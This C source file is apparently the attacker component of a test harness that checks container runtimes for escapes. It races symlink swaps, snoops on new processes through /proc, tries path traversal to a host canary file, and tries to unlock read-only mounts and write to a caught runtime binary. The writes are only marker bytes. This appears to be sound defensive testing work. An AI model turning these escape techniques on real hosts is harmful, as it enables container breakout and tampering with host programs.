/* attacker VERB ARGUMENT...: what somebody does who has root in a container, or writes an image, while a runtime makes
 * another container.
 *
 *   exchange A B [A B]...   swaps names for ever
 *   snoop OUT STOP [SEAL]   looks into every process that was not there at the start, until the file STOP exists;
 *                           then tries to write to the programs that it caught; with SEAL tries to unlock them first;
 *                           $CANARY is a file of the host that it tries to reach through what it sees
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int out;

/* Each finding is told once: kind, process, detail. */
static void tell(const char *kind, int pid, const char *detail) {
    static char *told[4096];
    static size_t count;
    char line[5000];
    snprintf(line, sizeof line, "{\"verb\":\"%s\",\"pid\":%d,\"detail\":\"%s\"}\n", kind, pid, detail);
    for (char *at = line; *at && at[1]; at++)
        if (iscntrl((unsigned char)*at) || *at == '\\') *at = '?';
    for (size_t i = 0; i < count; i++)
        if (strcmp(told[i], line) == 0) return;
    if (count < sizeof told / sizeof *told) told[count++] = strdup(line);
    if (write(out, line, strlen(line)) < 0) _exit(90);
}

static void exchange(int argc, char **argv) {
    for (;;)
        for (int i = 0; i + 1 < argc; i += 2)
            if (renameat2(AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE) < 0 && errno != ENOENT) {
                perror(argv[i]);
                _exit(91);
            }
}

static int caught[64], caught_pid[64];
static size_t caught_count;

/* Programs of containers, which the attacker has in its own /bin, are no prey. */
static int is_of_containers(const struct stat *program) {
    DIR *bin = opendir("/bin");
    struct stat status;
    int found = 0;
    for (struct dirent *entry; (entry = readdir(bin));)
        if (fstatat(dirfd(bin), entry->d_name, &status, AT_SYMLINK_NOFOLLOW) == 0 && status.st_dev == program->st_dev &&
            status.st_ino == program->st_ino)
            found = 1;
    closedir(bin);
    return found;
}

static void keep(int pid, int fd) {
    struct stat now, other;
    fstat(fd, &now);
    if (is_of_containers(&now)) {
        close(fd);
        return;
    }
    tell("caught", pid, "");
    for (size_t i = 0; i < caught_count; i++) {
        fstat(caught[i], &other);
        if (other.st_dev == now.st_dev && other.st_ino == now.st_ino && caught_pid[i] == pid) {
            close(fd);
            return;
        }
    }
    if (caught_count == 64) {
        close(fd);
        return;
    }
    caught_pid[caught_count] = pid;
    caught[caught_count++] = fd;
}

static ssize_t link_text(const char *path, char *target, size_t size) {
    ssize_t length = readlink(path, target, size - 1);
    target[length < 0 ? 0 : length] = 0;
    return length;
}

/* A file of the host, by way of a directory that a process has. */
static void reach_out(int pid, const char *place) {
    static const char *const ways[] = {"", "/../../../../../../../../../../../../../../.."};
    const char *canary = getenv("CANARY");
    char path[4096];
    for (size_t i = 0; canary && i < sizeof ways / sizeof *ways; i++) {
        snprintf(path, sizeof path, "%s%s%s", place, ways[i], canary);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) tell("escaped", pid, path), close(fd);
    }
}

static void look_at_descriptors(int pid) {
    char path[64], target[4096];
    struct stat status;
    for (int fd = 0; fd < 64; fd++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
        if (link_text(path, target, sizeof target) < 0) continue;
        tell("descriptor", pid, target);
        if (stat(path, &status) == 0 && S_ISDIR(status.st_mode)) tell("directory", pid, target), reach_out(pid, path);
    }
}

static void look_at(int pid) {
    static const char *const places[] = {"root", "cwd"};
    char path[64], target[4096];
    int fd;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    if (link_text(path, target, sizeof target) >= 0) tell("exe", pid, target);
    if ((fd = open(path, O_RDONLY | O_CLOEXEC)) >= 0) keep(pid, fd);
    for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
        snprintf(path, sizeof path, "/proc/%d/%s", pid, places[i]);
        if (link_text(path, target, sizeof target) >= 0) tell(places[i], pid, target), reach_out(pid, path);
    }
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    if ((fd = open(path, O_RDONLY | O_CLOEXEC)) >= 0) tell("environ", pid, ""), close(fd);
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    if ((fd = open(path, O_RDWR | O_CLOEXEC)) >= 0) tell("mem", pid, ""), close(fd);
    look_at_descriptors(pid);
}

/* What CAP_SYS_ADMIN can try on the mount that a program was executed from. */
static void unlock(int fd) {
    char path[64];
    struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    long results[] = {
        syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof attr),
        mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL),
        mount(NULL, path, NULL, MS_REMOUNT, NULL),
    };
    for (size_t i = 0; i < sizeof results / sizeof *results; i++)
        if (results[i] == 0) tell("unlocked", (int)i, "");
    long copy = syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE | O_CLOEXEC);
    if (copy < 0 || syscall(SYS_mount_setattr, copy, "", AT_EMPTY_PATH, &attr, sizeof attr) < 0) return;
    snprintf(path, sizeof path, "/proc/self/fd/%ld", copy);
    int writable = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (writable >= 0 && write(writable, "!", 1) == 1) tell("written", (int)copy, "through a copy of its mount");
}

static void overwrite(int sealed) {
    char path[64], detail[128];
    for (size_t i = 0; i < caught_count; i++) {
        if (sealed) unlock(caught[i]);
        snprintf(path, sizeof path, "/proc/self/fd/%d", caught[i]);
        int error = ETXTBSY, fd = -1;
        for (int tries = 0; error == ETXTBSY && tries < 300; tries++) {
            struct timespec pause = {0, 2000000};
            if ((fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC)) >= 0) break;
            if ((error = errno) == ETXTBSY) nanosleep(&pause, NULL);
        }
        if (fd >= 0 && write(fd, "!", 1) == 1) tell("written", caught_pid[i], "");
        else {
            snprintf(detail, sizeof detail, "%s: %s", fd < 0 ? "open" : "write", strerrorname_np(errno));
            tell("refused", caught_pid[i], detail);
        }
    }
}

static void snoop(char **argv) {
    static char there[1 << 16];
    struct dirent *entry;
    struct stat status;
    out = open(argv[0], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
    if (out < 0) _exit(92);
    DIR *proc = opendir("/proc");
    while ((entry = readdir(proc)))
        if (isdigit((unsigned char)*entry->d_name)) there[atoi(entry->d_name) & 0xffff] = 1;
    tell("ready", getpid(), "");
    while (stat(argv[1], &status) < 0) {
        rewinddir(proc);
        while ((entry = readdir(proc)))
            if (isdigit((unsigned char)*entry->d_name) && !there[atoi(entry->d_name) & 0xffff]) look_at(atoi(entry->d_name));
    }
    closedir(proc);
    overwrite(argv[2] != NULL);
    tell("done", getpid(), "");
}

int main(int argc, char **argv) {
    if (argc > 3 && strcmp(argv[1], "exchange") == 0) exchange(argc - 2, argv + 2);
    if (argc > 3 && strcmp(argv[1], "snoop") == 0) return snoop(argv + 2), 0;
    return 2;
}
